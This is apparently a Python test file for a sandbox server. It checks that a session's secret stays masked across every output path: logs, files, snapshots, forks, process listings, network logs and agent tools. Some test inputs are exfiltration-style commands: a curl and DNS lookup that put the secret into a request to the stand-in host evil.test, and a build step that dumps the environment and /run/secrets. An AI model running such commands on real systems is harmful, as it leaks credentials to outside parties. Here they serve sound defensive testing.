#!/usr/bin/python3 -B
"""Every way out of a session (doc/security/ways-out.md) with the value of a secret that the session was given: each row of the
document has a function here, and what the function sees is what the row says.

    test_ways_out.py CORDON [name ...]
"""
import base64
import io
import json
import os
import pathlib
import re
import subprocess
import sys
import tarfile

sys.path[:0] = [os.path.dirname(os.path.abspath(__file__)), os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "shared")]
from harness import Server, check, equal, has, run_tests, wait_for  # noqa: E402
from images import Image, archive, directory, member, symlink  # noqa: E402
from mcp_client import Client  # noqa: E402
from process_stream import Box  # noqa: E402

DOCUMENT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "doc", "security", "ways-out.md")
VALUE = "v4lue-of-a.secret-0123456789"
STARS = "*" * len(VALUE)
ELSEWHERE = {"mcp_server", "run_code", "network", "prompts", "answers", "cache", "memory"}  # the row names the test


class Bed:
    """A session that was given VALUE in a variable, and has files with it."""

    def __init__(self, server):
        self.server = server
        server.want(201, "POST", "/v1/secrets", {"name": "way", "value": VALUE, "ways": ["env"]})
        self.secrets = [{"name": "way", "as": "env", "env": "WAY"}]
        self.id = server.create(secrets=self.secrets, timeout="1h")["id"]
        self.path = f"/v1/sessions/{self.id}"
        self.read_key = server.want(201, "POST", "/v1/keys", {"scopes": ["read"]})["key"]
        self.run('mkdir a d; printf "a %s b" "$WAY" > a/f; printf "a %s b" "$WAY" > d/f; touch "d/n-$WAY"')

    def run(self, command, session="", **more):
        return self.server.run(session or self.id, command, **more)

    def box(self):
        """E2B's clients connect to any session of the tenant."""
        box = Box.__new__(Box)
        box.server, box.id = self.server, self.id
        box.token = self.server.want(200, "POST", f"/v2/sandboxes/{self.id}/connect", {"timeout": 3600})["envdAccessToken"]
        return box

    def close(self):
        self.server.delete(self.id)
        self.server.want(204, "DELETE", "/v1/secrets/way")


def way_output(b):
    got = b.run('echo "$WAY"; echo "$WAY" >&2')
    equal((got["stdout"], got["stderr"]), (STARS + "\n", STARS + "\n"))
    _, _, events = b.server.request("GET", f"{b.path}/executions/{got['id']}/output", raw=True)
    check(VALUE.encode() not in events and STARS.encode() in events, "the log")
    folder = os.path.join(b.server.state, "output")
    equal(subprocess.run(["grep", "-rlF", VALUE, folder], stdout=subprocess.PIPE, text=True, check=False).stdout, "", "on disk")


def way_terminal(b):
    x = b.server.spawn(b.id, 'echo "$WAY"', tty={"rows": 24, "cols": 80})
    b.server.ended(x)
    _, _, data = b.server.request("GET", f"{b.path}/executions/{x['id']}/output", raw=True)
    check(VALUE.encode() not in data and STARS.encode() in data, f"{data}")


def way_record(b):
    got = b.run(["/no/such/program", "x"])
    check(VALUE not in json.dumps(got), f"{got}")
    got = b.run(f"echo {VALUE}")
    check(VALUE not in got["stdout"] and VALUE not in json.dumps(b.server.want(200, "GET", f"{b.path}/executions/{got['id']}")), "the record")


def way_file(b):
    at = f"{b.path}/files?path=d/f"
    equal(b.server.want(200, "GET", at), f"a {VALUE} b".encode(), "a key that may run code")
    equal(b.server.want(200, "GET", at, key=b.read_key), f"a {STARS} b".encode())


def way_archive(b):
    for key, want in (("", VALUE), (b.read_key, STARS)):
        data = b.server.want(200, "GET", f"{b.path}/files/tar?path=a", key=key)
        with tarfile.open(fileobj=io.BytesIO(data)) as t:
            found = [t.extractfile(m).read() for m in t if m.name.endswith("f")]
        equal(found, [f"a {want} b".encode()])
    names = b.server.want(200, "GET", f"{b.path}/files/tar?path=d", key=b.read_key)
    check(VALUE.encode() not in names and f"n-{STARS}".encode() in names, "a name")


def way_names(b):
    has(json.dumps(b.server.want(200, "GET", f"{b.path}/files/list?path=d")), VALUE, "in a list")
    has(json.dumps(b.server.want(200, "GET", f"{b.path}/files/stat?path=d/n-{VALUE}")), VALUE, "in a stat")
    head = {"E2b-Sandbox-Id": b.id, "E2b-Sandbox-Port": "49983", "X-Access-Token": b.box().token,
            "Content-Type": "application/json", "Connect-Protocol-Version": "1"}
    listed = b.server.request("POST", "/filesystem.Filesystem/ListDir", {"path": "d"}, head, key=None)
    equal(listed[0], 200, listed)
    has(json.dumps(listed[2]), VALUE, "in E2B's ListDir")


def way_diff(b):
    has(json.dumps(b.server.want(200, "GET", f"{b.path}/diff")), VALUE, "a name as it is")


def way_kept_diff(b):
    s = b.server.create(secrets=b.secrets, keep_diff=True)["id"]
    b.run('touch "name-$WAY" "coded-$(printf %s "$WAY" | base64)"', s)
    b.server.delete(s)
    b.server.reaches(s, "ended", 40)
    text = json.dumps(b.server.want(200, "GET", f"/v1/sessions/{s}/diff"))
    check(STARS in text and VALUE not in text and base64.b64encode(VALUE.encode()).decode()[:30] not in text, text)


def way_file_error(b):
    status, _, data = b.server.request("GET", f"{b.path}/files?path=/no/{VALUE}")
    equal(status, 404)
    has(json.dumps(data), f"/no/{VALUE}", "the path of the request")


def way_mcp_run(b):
    c = Client(b.server)
    got = c.call("run", session_id=b.id, command='echo "$WAY"')
    equal(got["stdout"], STARS + "\n")
    check(VALUE not in json.dumps(c.call("read_output", execution_id=got["execution_id"])), "read_output")
    uri = f"cordon://sessions/{b.id}/executions/{got['execution_id']}/output"
    check(VALUE not in json.dumps(c.result("resources/read", {"uri": uri})), "the resource")


def way_mcp_file(b):
    c = Client(b.server)
    equal(c.call("read_file", session_id=b.id, path="d/f")["text"], f"a {STARS} b")
    for offset in (1, 3, 10):
        check(VALUE[10:] not in c.call("read_file", session_id=b.id, path="d/f", offset=offset)["text"], f"from {offset}")
    check(VALUE not in json.dumps(c.result("resources/read", {"uri": f"cordon://sessions/{b.id}/files/home/user/d/f"})), "the resource")


def way_mcp_names(b):
    c = Client(b.server)
    for got in (c.call("list_files", session_id=b.id, depth=4), c.call("get_changes", session_id=b.id),
                c.call("run", session_id=b.id, command='touch "d/m-$WAY" "x-$(printf %s "$WAY" | base64)"', report_changes=True)):
        text = json.dumps(got)
        check(VALUE not in text and base64.b64encode(VALUE.encode()).decode()[:30] not in text, text)


def way_process(b):
    out, err, _, _ = b.box().run('echo "$WAY"; echo "$WAY" >&2')
    equal((out, err), ((STARS + "\n").encode(), (STARS + "\n").encode()))


def refuse_capture(b, session, path, *parts):
    b.server.refused(409, "secrets_in_files", "POST", f"/v1/sessions/{session}{path}", {}, *parts)


def none_stored(b):
    wait_for(lambda: not b.server.want(200, "GET", "/v1/layers")["layers"], 60, "no layer stays")
    found = subprocess.run(["grep", "-rlF", VALUE, os.path.join(b.server.state, "storage")], stdout=subprocess.PIPE, text=True, check=False)
    equal(found.stdout, "", "nor a file with the value")


def way_snapshot(b):
    """In a content, also behind much else and across pieces; in a name; in the target of a link; in an attribute; encoded."""
    refuse_capture(b, b.id, "/snapshots", "/home/user/", "captured_secrets")
    hides = {"content": 'head -c 3000001 /dev/zero > z; printf "x%sx" "$WAY" >> z',
             "name": 'mkdir -p "q-$WAY"', "link": 'ln -s "/$WAY" l', "encoded": 'printf %s "$WAY" | base64 > e',
             "json": 'python3 -c "import json, os; open(\'j\', \'w\').write(json.dumps(json.dumps(os.environ[\'WAY\'] + chr(10))))"'}
    for what, command in hides.items():
        s = b.server.create(secrets=b.secrets)["id"]
        b.server.want(201, "POST", f"/v1/sessions/{s}/snapshots", {})  # before it has any
        made = b.run(command, s)
        equal(made["exit_code"], 0, f"{what}: {made}")
        status, _, data = b.server.request("POST", f"/v1/sessions/{s}/snapshots", {})
        equal((status, data["error"]["code"]), (409, "secrets_in_files"), f"{what}: {data}")
        check(VALUE not in json.dumps(data), f"{what}: {data}")
        equal(b.run("echo on", s)["stdout"], "on\n", "the session goes on")
        b.server.delete(s)
    for shot in b.server.want(200, "GET", "/v1/snapshots")["snapshots"]:
        b.server.want(204, "DELETE", "/v1/snapshots/" + shot["id"].replace(":", "%3A"))
    none_stored(b)


def of_an_image(server, **spec):
    """A session whose files are listed: nothing in it is the machine's."""
    image = archive(directory("bin"), member("bin/busybox", pathlib.Path("/bin/busybox").read_bytes(), mode=0o755), symlink("bin/sh", "busybox"),
                    directory("d", mode=0o777), directory("etc"), member("etc/passwd", b"root:x:0:0:root:/:/bin/sh\n"))
    server.want(201, "POST", "/v1/templates?name=way", Image([image]).layout_tar(), headers={"Content-Type": "application/x-tar"})
    return server.create(template="way", **spec)["id"]


def files_of(server, shot):
    return json.dumps(server.want(200, "GET", f"/v1/templates/{shot.replace(':', '%3A')}/files?path=/d"))


def way_template_files(b):
    """Of a template that is a snapshot. test_captures_can_be_allowed has the other answer."""
    s = of_an_image(b.server, secrets=b.secrets)
    equal(b.run("busybox touch /d/before", s)["exit_code"], 0)
    shot = b.server.want(201, "POST", f"/v1/sessions/{s}/snapshots", {})["id"]
    equal(b.run('busybox touch "/d/n-$WAY"', s)["exit_code"], 0)
    refuse_capture(b, s, "/snapshots")
    listed = files_of(b.server, shot)
    check("before" in listed and VALUE not in listed, listed)
    b.server.delete(s)
    b.server.want(204, "DELETE", "/v1/snapshots/" + shot.replace(":", "%3A"))
    b.server.want(204, "DELETE", "/v1/templates/way")


def way_fork(b):
    forked = b.server.want(201, "POST", f"{b.path}/fork", {"count": 1})["sessions"][0]["id"]  # has the secret of its source
    equal(b.run("cat d/f", forked)["stdout"], f"a {STARS} b", "masked in the fork")
    refuse_capture(b, forked, "/snapshots", "cannot be searched")  # what came from its source
    b.server.delete(forked)
    s = b.server.create()["id"]
    b.run('printf %s "$ONCE" > once', s, secrets=[{"name": "way", "as": "env", "env": "ONCE"}])
    refuse_capture(b, s, "/fork", "/home/user/once")
    refuse_capture(b, s, "/snapshots", "/home/user/once")
    b.server.delete(s)
    none_stored(b)


def way_pause(b):
    s = b.server.create(secrets=b.secrets)["id"]
    b.run('printf %s "$WAY" > f', s)
    b.server.want(200, "POST", f"/v1/sessions/{s}/pause", {"memory": False})
    equal(b.run("cat f", s)["stdout"], STARS, "after the pause")
    refuse_capture(b, s, "/snapshots", "cannot be searched")  # what the pause wrote down
    b.server.delete(s)
    s = b.server.create()["id"]
    b.run('printf %s "$ONCE" > once', s, secrets=[{"name": "way", "as": "env", "env": "ONCE"}])
    b.server.want(200, "POST", f"/v1/sessions/{s}/pause", {"memory": False})
    equal(b.run("echo on", s)["stdout"], "on\n", "resumed")
    refuse_capture(b, s, "/fork", "cannot be searched")
    b.server.delete(s)


SERVES = "python3 -c \"import http.server, os; h = type('H', (http.server.SimpleHTTPRequestHandler,), {'do_GET': lambda s: s.wfile.write(" \
    "b'HTTP/1.0 200 OK\\r\\n\\r\\n' + os.environb[b'WAY'])}); http.server.HTTPServer(('127.0.0.1', 8000), h).serve_forever()\""


def way_port(b):
    x = b.server.spawn(b.id, SERVES, background=True)

    def ask(**head):
        return b.server.request("GET", "/", headers={"E2b-Sandbox-Id": b.id, "E2b-Sandbox-Port": "8000", **head}, raw=True, key=None)

    got = wait_for(lambda: (a := ask(**{"X-API-Key": b.server.key}))[0] == 200 and a, 20, "the server in the cell")
    equal(got[2], VALUE.encode())
    status, _, data = ask()
    check(status in (401, 403) and VALUE.encode() not in data, f"without a key: {status} {data}")
    b.server.request("DELETE", f"{b.path}/executions/{x['id']}")


def way_network_log(b):
    """In the records, with the execution, to an agent, and in the line for E2B's clients: a name and a path that were refused."""
    s = b.server.create(secrets=b.secrets, network="deny")["id"]
    ask = 'getent hosts "$WAY.evil.test"; curl -s -m 9 "http://$WAY.evil.test/p-$WAY?q=$WAY"; exit 3'
    done = wait_for(lambda: (x := b.run(ask, s)) and x["denied"] and x, 20, "refusals")
    log = wait_for(lambda: len((x := b.server.want(200, "GET", f"/v1/sessions/{s}/network/log"))["records"]) > 1 and x, 20, "records")
    told = Client(b.server).call("run", session_id=s, command=ask)
    box = Box.__new__(Box)
    box.server, box.id = b.server, s
    box.token = b.server.want(200, "POST", f"/v2/sandboxes/{s}/connect", {"timeout": 3600})["envdAccessToken"]
    line = wait_for(lambda: b"refused" in (text := bytes(box.run(ask)[1])) and text.decode(), 20, "the line on stderr")
    asked = b.server.want(200, "GET", f"/v1/sessions/{s}/executions/{done['id']}")
    for what, text in (("the execution", done), ("the same, later", asked), ("records", log), ("an agent", told), ("stderr", line)):
        check(VALUE not in json.dumps(text), f"{what}: {text}")
        has(json.dumps(text), "evil.test", what)
    b.server.delete(s)


def way_processes(b):
    """Of a command that is whole, and of one that is cut off inside of the value; in the name of a program, which is cut off, too."""
    shown = {}
    for name in (VALUE, "fifteen-letters", "six-le"):
        x = b.server.spawn(b.id, f'cp /bin/sleep {name.replace(VALUE, "$WAY")}; PATH=. exec {name.replace(VALUE, "$WAY")} 600')

        def named(x=x):
            found = b.server.want(200, "GET", f"{b.path}/processes", key=b.read_key)["processes"]
            return [p["name"] for p in found if p["execution_id"] == x["id"] and p["command"].endswith(" 600") and "exec" not in p["command"]]

        shown[name] = wait_for(named, 20, "the program")[0]
        b.server.request("DELETE", f"{b.path}/executions/{x['id']}")
    equal(shown, {VALUE: "*" * 15, "fifteen-letters": "fifteen-letters", "six-le": "six-le"})
    renamed = b.server.spawn(b.id, 'exec python3 -c "open(\'/proc/self/comm\', \'w\').write(__import__(\'os\').environ[\'WAY\']); __import__(\'time\').sleep(600)"')

    def covered():
        return [p for p in b.server.want(200, "GET", f"{b.path}/processes")["processes"] if p["execution_id"] == renamed["id"] and p["name"] == "*" * 15]

    wait_for(covered, 20, "the name that a program gave itself")
    b.server.request("DELETE", f"{b.path}/executions/{renamed['id']}")
    for cut in (1, 4095 - len("python3 -c import time; time.sleep(600)  ") - 10):
        x = b.server.spawn(b.id, f'exec python3 -c "import time; time.sleep(600)" {"-" * cut} "$WAY"')
        for key in ("", b.read_key):
            def listed(key=key):
                found = b.server.want(200, "GET", f"{b.path}/processes", key=key)["processes"]
                return [p["command"] for p in found if p["execution_id"] == x["id"] and "time.sleep" in p["command"] and "exec python3" not in p["command"]]

            command = wait_for(listed, 20, "the program")[0]
            check(VALUE[:6] not in command and "***" in command, command)
        b.server.request("DELETE", f"{b.path}/executions/{x['id']}")


def way_packages(b):
    """A name of a package that was asked for."""
    s = b.server.create(secrets=b.secrets, network={"version": 1, "packages": {"registries": ["npm"], "mode": "offline"}})["id"]
    b.run('curl -sk -m 20 "https://registry.npmjs.org/$WAY"; curl -sk -m 20 "https://registry.npmjs.org/$WAY/-/$WAY-1.0.0.tgz"', s)
    path = f"/v1/sessions/{s}/packages"
    listed = wait_for(lambda: (x := b.server.want(200, "GET", path))["packages"] and x, 20, "packages")
    for what in (listed, b.server.want(200, "GET", f"/v1/sessions/{s}/network/log")):
        text = json.dumps(what)
        check(VALUE not in text and "***" in text, text)
    b.server.delete(s)


def way_build(b):
    """A step sees no secret, also if its recipe asks for one."""
    builds = "/v1/builds"
    made = b.server.want(201, "POST", builds, {"name": "way"})
    where = f"{builds}/{made['id']}"
    steps = [{"type": "RUN", "args": ["echo saw; env; cat /run/secrets/* 2>&1; true"], "secrets": b.secrets}]
    b.server.want(202, "POST", where + "/start", {"fromTemplate": "base", "steps": steps, "secrets": b.secrets})
    row = wait_for(lambda: (x := b.server.want(200, "GET", where))["status"] in ("ready", "error") and x, 60, "the build")
    log = json.dumps(row)
    has(log, "saw")
    check(VALUE not in log, log)
    b.server.request("DELETE", f"/templates/{made['template_id']}")


def way_volume(b):
    """Another session, without the secret, has the file, and nothing masks it there."""
    b.server.want(201, "POST", "/v1/volumes", {"name": "way"})
    mounts = {"volumes": [{"name": "way", "path": "/mnt/way"}]}
    one = b.server.create(secrets=b.secrets, **mounts)["id"]
    equal(b.run('printf %s "$WAY" > /mnt/way/f', one)["exit_code"], 0)
    two = b.server.create(**mounts)["id"]
    equal(b.run("cat /mnt/way/f", two)["stdout"], VALUE)
    for s in (one, two):
        b.server.delete(s)
        b.server.reaches(s, "ended", 40)
    b.server.want(204, "DELETE", "/v1/volumes/way")


def way_events(b):
    b.run('echo "$WAY" >&2; exit 3')
    check(VALUE not in json.dumps(b.server.want(200, "GET", "/v1/events?limit=1000")), "events")


def way_sandbox_logs(b):
    """Events as E2B's clients read them: of commands that failed, that were killed, and of a file that could not be captured."""
    b.run('echo "$WAY"; echo "$WAY" >&2; exit 3')
    b.run(["/no/such/program", "$WAY"])
    b.run('cp /bin/sleep "$WAY"; timeout 1 "./$WAY" 600')
    refuse_capture(b, b.id, "/snapshots")
    for path in (f"/sandboxes/{b.id}/logs", f"/v2/sandboxes/{b.id}/logs"):
        for key in ("", b.read_key):
            text = json.dumps(b.server.want(200, "GET", path, key=key))
            has(text, "execution", path)
            check(VALUE not in text, text)


def way_log(b):
    check(VALUE not in b.server.log(), "the log of the server")


def test_every_row_has_a_function(_):
    text = dict(re.findall(r"^\| `(\w+)` \|(.*)$", open(DOCUMENT).read(), re.M))
    rows, tests = set(text), pathlib.Path(__file__).resolve().parents[1]
    ours = {n[4:] for n in globals() if n.startswith("way_")}
    equal((rows - ours - ELSEWHERE, ours - rows, ELSEWHERE - rows), (set(), set(), set()), "rows without a test, tests without a row")
    for name in ELSEWHERE:
        named = re.findall(r"test_\w+\.py", text[name])
        check(named and all(list(tests.rglob(n)) for n in named), f"{name}: {named}")


def test_each_way(server):
    b, failed = Bed(server), []
    for name, way in [(n, f) for n, f in globals().items() if n.startswith("way_")]:
        try:
            way(b)
        except Exception as e:  # all rows are tried
            failed.append(f"{name[4:]}: {e}")
    b.close()
    check(not failed, "\n# ".join(failed))


def test_captures_can_be_allowed(_):
    with Server(captured_secrets="allow") as server:
        b = Bed(server)
        shot = server.want(201, "POST", f"{b.path}/snapshots", {})
        s = server.create(template=shot["id"])["id"]
        equal(b.run("stat -c %s d/f", s)["stdout"], f"{len(VALUE) + 4}\n")
        server.delete(s)
        s = of_an_image(server, secrets=b.secrets)
        equal(b.run('busybox touch "/d/n-$WAY"', s)["exit_code"], 0)
        has(files_of(server, server.want(201, "POST", f"/v1/sessions/{s}/snapshots", {})["id"]), f"n-{VALUE}", "names of files are as they are")
        b.close()


def test_a_tenant_can_be_stricter(_):
    """The stricter of the server's setting and the tenant's counts, from the next capture on."""
    for setting, own, want in (("allow", "default", None), ("allow", "name", "listed"), ("allow", "refuse", "refused"), ("name", "allow", "listed"),
                               ("refuse", "allow", "refused")):
        with Server(captured_secrets=setting) as server:
            b = Bed(server)
            tenant = server.want(200, "GET", "/v1/tenants")["tenants"][0]
            equal(tenant["captured_secrets"], "default")
            told = server.want(200, "PATCH", f"/v1/tenants/{tenant['id']}", {"captured_secrets": own})
            equal(told["captured_secrets"], own)
            status, _, made = server.request("POST", f"{b.path}/snapshots", {})
            got = "refused" if status == 409 and made["error"]["code"] == "secrets_in_files" else "listed" if "secrets_in_files" in made else None
            equal((got, status), (want, 409 if want == "refused" else 201), f"{setting} and {own}: {made}")
            done = subprocess.run([server.program, "tenant", "set", tenant["id"], "--captured-secrets", own, "--server", "http://" + server.settings["listen"]],
                                  env={**os.environ, "CORDON_API_KEY": server.key}, capture_output=True, text=True, timeout=60)
            equal((done.returncode, server.want(200, "GET", f"/v1/tenants/{tenant['id']}")["captured_secrets"]), (0, own), done.stderr)
            has(server.want(400, "PATCH", f"/v1/tenants/{tenant['id']}", {"captured_secrets": "none"})["error"]["message"], "default refuse name allow")
            b.close()


def test_captures_can_name_their_files(_):
    """captured_secrets = name: the copy is made. Answer and event list the files, and no value is in either."""
    with Server(captured_secrets="name") as server:
        b = Bed(server)
        clean = server.create(secrets=b.secrets)["id"]
        check("secrets_in_files" not in server.want(201, "POST", f"/v1/sessions/{clean}/snapshots", {}), "there is none")
        s = server.create()["id"]
        made = b.run('mkdir d; for i in $(seq 20); do printf "$WAY" > d/$i; done; touch "q-$WAY"; printf x > other', s, secrets=b.secrets)
        equal(made["exit_code"], 0, "one execution had it, and sessions of a fork have it no more")
        for made in (server.want(201, "POST", f"/v1/sessions/{s}/snapshots", {}), server.want(201, "POST", f"/v1/sessions/{s}/fork", {})):
            found = made["secrets_in_files"]
            equal((found["count"], len(found["files"]), found["unsearched"]), (21, 16, False), f"{found}")
            check(VALUE not in json.dumps(made), "no value")
            check(all(name.startswith(("/home/user/d/", "/home/user/q-****")) for name in found["files"]), f"{found}")
        events = [e["data"] for e in server.want(200, "GET", f"/v1/sessions/{s}/events?limit=1000")["events"] if e["type"] == "session.secrets_captured"]
        equal([(e["kind"], e["files_found"]) for e in events], [("snapshot", 21), ("fork", 21)], f"{events}")
        check(VALUE not in json.dumps(events) and events[0]["files"].count("/home/user/") == 16, f"{events}")
        # What a fork has from its source was written before and is not searched again.
        copy = made["sessions"][0]["id"]
        b.run("true", copy, secrets=b.secrets)
        again = server.want(201, "POST", f"/v1/sessions/{copy}/snapshots", {})["secrets_in_files"]
        equal((again["count"], again["files"], again["unsearched"]), (0, [], True), f"{again}")
        masks(server, server.create(template=server.want(201, "POST", f"{b.path}/snapshots", {})["id"])["id"])
        b.close()


def masks(server, session, command="cat d/f"):
    got = server.run(session, command)
    equal((got["exit_code"], got["stdout"]), (0, f"a {STARS} b"), f"{command} in {session}: {got}")


def copies(server, session):
    """Sessions with files of this one, none of which has its secret."""
    shot = server.want(201, "POST", f"/v1/sessions/{session}/snapshots", {})
    server.want(201, "POST", "/v1/templates", {"name": "again", "from": shot["id"]})
    return [server.create(template=shot["id"])["id"], server.create(template="again")["id"]]


def test_copies_mask_what_their_source_had(_):
    """Also when the secret was replaced or deleted, over a copy of a copy, and with another server on the same state and another key."""
    with Server(captured_secrets="allow") as server:
        b = Bed(server)
        server.want(200, "PUT", "/v1/secrets/way", {"value": "another-value-of-it"})
        wait_for(lambda: b.run('printf "$WAY" | wc -c')["stdout"] == "19\n", 20, "the new value")
        b.run('printf %s "$WAY" > new')
        made = copies(server, b.id)
        made += copies(server, made[1])
        made.append(server.want(201, "POST", f"/v1/sessions/{b.id}/fork", {})["sessions"][0]["id"])
        server.delete(b.id)
        server.want(204, "DELETE", "/v1/secrets/way")
        for s in made:
            masks(server, s)
            equal(server.run(s, "cat new")["stdout"], "*" * 19)
        keys = pathlib.Path(server.state, "secrets.key")
        fresh = "another:" + base64.b64encode(os.urandom(32)).decode() + "\n"
        for text in (fresh + keys.read_text(), fresh):  # values are sealed again with the first key
            keys.write_text(text)
            server.restart()
        for s in made + copies(server, made[0]):
            masks(server, s)
            equal(server.run(s, "cat new")["stdout"], "*" * 19)
        # One execution had it, and the other values were not given to the session.
        server.want(201, "POST", "/v1/secrets", {"name": "way", "value": VALUE, "ways": ["env"]})
        s = server.create()["id"]
        server.run(s, 'mkdir d; printf "a %s b" "$WAY" > d/f', secrets=b.secrets)
        copy = copies(server, s)[0]
        server.want(204, "DELETE", "/v1/secrets/way")
        masks(server, copy)
        check(VALUE.encode() not in b"".join(p.read_bytes() for p in pathlib.Path(server.state).glob("*.db*")), "the store")


def test_values_that_no_key_opens_are_not_shown(_):
    with Server(captured_secrets="allow") as server:
        b = Bed(server)
        shot = server.want(201, "POST", f"{b.path}/snapshots", {})
        server.stop()
        os.unlink(os.path.join(server.state, "secrets.key"))
        server.start()
        server.refused(409, "conflict", "POST", "/v1/sessions", {"template": shot["id"]}, "cannot mask")
        server.delete(server.create()["id"])  # others are made
        server.delete(b.id)


if __name__ == "__main__":
    run_tests(globals(), pool_size=2)
